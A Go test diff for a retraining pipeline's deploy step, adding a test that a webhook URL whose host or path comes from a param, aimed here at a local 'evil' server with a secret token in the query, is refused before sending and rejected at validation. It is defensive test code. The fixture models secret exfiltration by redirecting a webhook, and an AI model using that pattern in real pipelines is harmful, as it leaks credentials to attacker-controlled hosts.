@@ -107,3 +107,41 @@ func TestWebhookSecretOnlyWhereWritten(t *testing.T) {
 		t.Errorf("a secret in the host was not refused: %+v", out.Webhooks)
 	}
 }
+
+// TestWebhookSecretRedirected: a webhook carrying a spec's secret whose
+// host or path a param supplied (the run's record says where the spec's
+// own text ends) is refused before anything is sent; validation refuses
+// the spec's text too. A param in the query is fine.
+func TestWebhookSecretRedirected(t *testing.T) {
+	const value = "hook-s3cr3t-91"
+	t.Setenv("RETRAIN_SECRET_HOOK", value)
+	var hits atomic.Int32
+	evil := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { hits.Add(1) }))
+	defer evil.Close()
+	m, _, _ := newModels(t)
+	// As a run resolves "${params.hook}/deployed?token=${secret.HOOK}"
+	// with hook=the evil server: the spec's text begins at the param's end.
+	hook := evil.URL + "/deployed?token=${secret.HOOK}"
+	in := deployInput("run-1", "deploy", map[string]any{"model": "ctr", "dir": candidate(t, "w"), "webhooks": []any{hook}})
+	zero := 0
+	in.Secrets = []dags.SecretRef{{Path: "/webhooks/0", Spans: []dags.SecretSpan{{Name: "HOOK", Start: strings.Index(hook, "${secret.HOOK}")}}, Literal: &zero}}
+	out, err := runDeploy(t.Context(), m, in)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if hits.Load() != 0 || out.WebhooksOK != 0 || !strings.Contains(out.Webhooks[0].Error, "a param or an output supplied part of its scheme, host or path") {
+		t.Errorf("sent %d, outputs %+v", hits.Load(), out.Webhooks)
+	}
+	// The spec's own URL with a param in its query: sent.
+	hook = evil.URL + "/deployed?token=${secret.HOOK}&run=run-2"
+	literal := strings.Index(hook, "run-2")
+	in = deployInput("run-2", "deploy", map[string]any{"model": "ctr", "dir": candidate(t, "w2"), "webhooks": []any{hook}})
+	in.Secrets = []dags.SecretRef{{Path: "/webhooks/0", Spans: []dags.SecretSpan{{Name: "HOOK", Start: strings.Index(hook, "${secret.HOOK}")}}, Literal: &literal}}
+	if out, err = runDeploy(t.Context(), m, in); err != nil || out.WebhooksOK != 1 || hits.Load() != 1 {
+		t.Errorf("a param in the query: sent %d, %+v, %v", hits.Load(), out.Webhooks, err)
+	}
+	err = checkDeploy(map[string]any{"model": "ctr", "dir": "/m", "webhooks": []any{"${params.hook}/deployed?token=${secret.HOOK}"}})
+	if err == nil || !strings.Contains(err.Error(), "${params.hook} supplies part of them") {
+		t.Errorf("validation: %v", err)
+	}
+}
